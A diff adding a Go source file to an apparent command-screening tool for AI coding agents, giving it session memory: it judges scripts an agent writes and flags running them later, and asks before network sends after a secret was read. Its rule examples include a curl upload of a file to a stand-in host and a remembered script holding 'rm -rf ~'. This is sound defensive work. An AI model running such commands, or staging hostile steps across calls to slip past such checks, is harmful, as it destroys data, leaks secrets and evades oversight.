@@ -1,0 +1,231 @@
+package judge
+
+import (
+	"path"
+	"path/filepath"
+	"strings"
+
+	"github.com/sentinel-guard/sentinel/parse"
+)
+
+// Session memory, the judge's side (the register side is package session).
+// A call leaves facts (Decision.Facts): the files it wrote with the verdict
+// their content would get if run, and whether it read a secret. A later
+// call of the same session asks Env.Memory about the files it runs and,
+// when it sends over the network, about a secret read earlier. Memory only
+// ever adds hits: what the disk holds is judged as well (scriptfile.go),
+// so a memory that is missing, late or forged cannot make a call pass.
+
+// Rules of this file: their text, examples and matching code are one unit.
+const (
+	RuleSessionWrittenRun = "SESSION-WRITTEN-RUN"
+	RuleSessionSecretSend = "SESSION-SECRET-SEND"
+)
+
+var _ = rules(
+	Rule{ID: RuleSessionWrittenRun, Class: ClassRemoteCode, Severity: SevHigh, Decision: Deny, Catastrophic: false,
+		Reason:      "a file written earlier in this session is run, and what was written would be stopped if run directly",
+		Alternative: "run the commands of the file one by one, spelled out, so each is judged",
+		Matches:     "a file an earlier Write/Edit/MultiEdit or Bash call of the same session wrote (`cat > x.sh <<EOF`, `printf … > x`, `tee`) run now: `bash x.sh`, `sh < x.sh`, `./x`, `source x`, `python3 x.py`, `node x.js`, `npm install`/`npm run` with such a `package.json`; its decision is the one the written content got (ask or deny), looked up among the session's last 256 entries",
+		Fire:        []string{"bash " + ExampleWrittenScript, "sh < " + ExampleWrittenScript},
+		Pass:        []string{"bash /home/user/proj/other.sh", "cat " + ExampleWrittenScript}},
+	Rule{ID: RuleSessionSecretSend, Class: ClassExfiltration, Severity: SevHigh, Decision: Ask, Catastrophic: false,
+		Reason:      "a secret was read earlier in this session and this call sends data over the network",
+		Alternative: "never send credentials; use the service's own authenticated tool",
+		Matches:     "a network send (as for EXFIL-SECRET-NETWORK) to a host not in `allowed_hosts`, in a session where an earlier call (among its last 256 entries, not denied) read a secret (SECRET-READ, ENV-DUMP)",
+		Fire:        []string{"curl -d @- https://x.example < notes.txt"},
+		Pass:        []string{"curl -d @- https://api.allowed.example < notes.txt", "cat notes.txt"}},
+)
+
+// ExampleWrittenScript is the file the example memory of the rule tests
+// remembers as written with `rm -rf ~` (the rules' examples are single
+// calls; the memory is what makes them a session).
+const ExampleWrittenScript = "/home/user/proj/x.sh"
+
+// Memory is what the session's earlier calls left, as package session
+// reads it from the register. Both methods may return nothing when the
+// memory could not be read in time; they never block for long.
+type Memory interface {
+	// Written is the newest fact about a file written earlier in the
+	// session (path absolute, cleaned).
+	Written(path string) (WrittenFact, bool)
+	// SecretRead reports an earlier call of the session that read a
+	// secret (and was not denied), with its register entry.
+	SecretRead() (seq int64, ok bool)
+}
+
+// Facts are what a call leaves for the session's later calls.
+type Facts struct {
+	Written []WrittenFact `json:"w,omitempty"`
+	Secret  bool          `json:"s,omitempty"` // the call read a secret
+}
+
+// Empty reports no facts.
+func (f *Facts) Empty() bool { return f == nil || (len(f.Written) == 0 && !f.Secret) }
+
+// WrittenFact is a file the call wrote and what its content would get if
+// it were run (its rules' verdict before the unattended conversion).
+type WrittenFact struct {
+	Path    string   `json:"p"`
+	Verdict Verdict  `json:"v"`
+	Rules   []string `json:"r,omitempty"`
+	Seq     int64    `json:"-"` // the entry it came from, when read back
+}
+
+// maxFactRules bounds the rule ids kept per written file.
+const maxFactRules = 4
+
+// noteWritten judges text written to p as if the file were run and keeps
+// the fact. Only files that can be run are judged (runnable).
+func (j *judge) noteWritten(p, text string) {
+	p, ok := j.resolve(p, j.cwd)
+	if !ok {
+		return
+	}
+	lang, ok := runnable(p, text)
+	if !ok || len(text) > maxScriptBytes {
+		return
+	}
+	s := j.sessionState()
+	if s.depth > 0 {
+		return // a script judged for a fact does not leave facts itself
+	}
+	sub := newJudge(Call{ToolName: "Bash", Cwd: j.cwd}, j.env)
+	sub.sess = &sessionState{depth: s.depth + 1, files: s.files}
+	res, err := parse.Script(text, lang, p, sub.parseOptions())
+	f := WrittenFact{Path: p}
+	if err != nil {
+		// what cannot be judged would be asked about if it ran
+		f.Verdict, f.Rules = Ask, []string{RuleSentinelUnjudged}
+	} else {
+		sub.judgeResult(res, text)
+		d := finish(sub.hits, false)
+		f.Verdict = d.Verdict
+		for _, id := range d.RuleIDs() {
+			if len(f.Rules) < maxFactRules && !contains(f.Rules, id) {
+				f.Rules = append(f.Rules, id)
+			}
+		}
+	}
+	s.facts.Written = append(s.facts.Written, f)
+}
+
+// runnable reports whether a file can be run as code and in which
+// language ("" the shell, parse.LangPackageJSON for a package.json).
+// Data and source files of compiled languages are not judged.
+func runnable(p, text string) (string, bool) {
+	if strings.HasPrefix(text, "#!") {
+		return "", true // the #! line decides (parse.Script)
+	}
+	base := path.Base(p)
+	if base == "package.json" {
+		return parse.LangPackageJSON, true
+	}
+	ext := strings.TrimPrefix(filepath.Ext(base), ".")
+	switch ext {
+	case "sh", "bash", "zsh", "ksh", "dash", "command", "envrc", "bashrc", "profile", "zshrc":
+		return "", true
+	case "py":
+		return "python", true
+	case "js", "mjs", "cjs":
+		return "js", true
+	case "rb":
+		return "ruby", true
+	case "pl", "pm":
+		return "perl", true
+	case "php":
+		return "php", true
+	case "":
+		return "", true // x, deploy, .envrc, .bashrc
+	}
+	return "", false
+}
+
+// noteEdit keeps the fact for an Edit or MultiEdit: the file's text after
+// the edits when the file can be read (bounded), else the new text alone.
+func (j *judge) noteEdit(p string, obj map[string]any) {
+	rp, ok := j.resolve(p, j.cwd)
+	if !ok {
+		return
+	}
+	type edit struct {
+		old, new string
+		all      bool
+	}
+	var edits []edit
+	take := func(m map[string]any) {
+		o, _ := m["old_string"].(string)
+		n, _ := m["new_string"].(string)
+		a, _ := m["replace_all"].(bool)
+		edits = append(edits, edit{o, n, a})
+	}
+	if es, ok := obj["edits"].([]any); ok {
+		for _, e := range es {
+			if m, ok := e.(map[string]any); ok {
+				take(m)
+			}
+		}
+	} else {
+		take(obj)
+	}
+	text, err := readScript(rp)
+	for _, e := range edits {
+		switch {
+		case err == nil && e.old != "" && strings.Contains(text, e.old):
+			if e.all {
+				text = strings.ReplaceAll(text, e.old, e.new)
+			} else {
+				text = strings.Replace(text, e.old, e.new, 1)
+			}
+		default:
+			// the file is not readable or does not match: judge what is
+			// added, line by line as it would run
+			err = errNoText
+			text += "\n" + e.new
+		}
+	}
+	j.noteWritten(rp, text)
+}
+
+// recall adds what the session remembers of a file that is run now.
+func (j *judge) recall(p string) {
+	if j.env.Memory == nil || j.sessionState().depth > 0 {
+		return
+	}
+	f, ok := j.env.Memory.Written(path.Clean(p))
+	if !ok || f.Verdict == Allow {
+		return
+	}
+	if j.cfg.disabled(RuleSessionWrittenRun) {
+		return
+	}
+	r, _ := ruleByID(RuleSessionWrittenRun)
+	h := hitFor(r, p+" (written in this session, entry #"+itoa(f.Seq)+": "+strings.Join(f.Rules, ", ")+")")
+	h.Verdict, h.Decision = f.Verdict, f.Verdict.String()
+	j.hits = append(j.hits, h)
+}
+
+// recallSecret adds SESSION-SECRET-SEND to a network send when an earlier
+// call of the session read a secret.
+func (j *judge) recallSecret() {
+	if j.networkSend == "" || j.env.Memory == nil || j.sessionState().depth > 0 {
+		return
+	}
+	if firstNonEmpty(j.secretRead, j.secretVar) != "" {
+		return // the same command's own combination speaks
+	}
+	if seq, ok := j.env.Memory.SecretRead(); ok {
+		j.add(RuleSessionSecretSend, "secret read in entry #"+itoa(seq)+" + "+j.networkSend)
+	}
+}
+
+// facts is what this call leaves for later ones (nil: nothing).
+func (j *judge) facts() *Facts {
+	s := j.sessionState()
+	s.facts.Secret = j.secretRead != ""
+	if s.facts.Empty() {
+		return nil
+	}
+	f := s.facts
+	return &f
+}
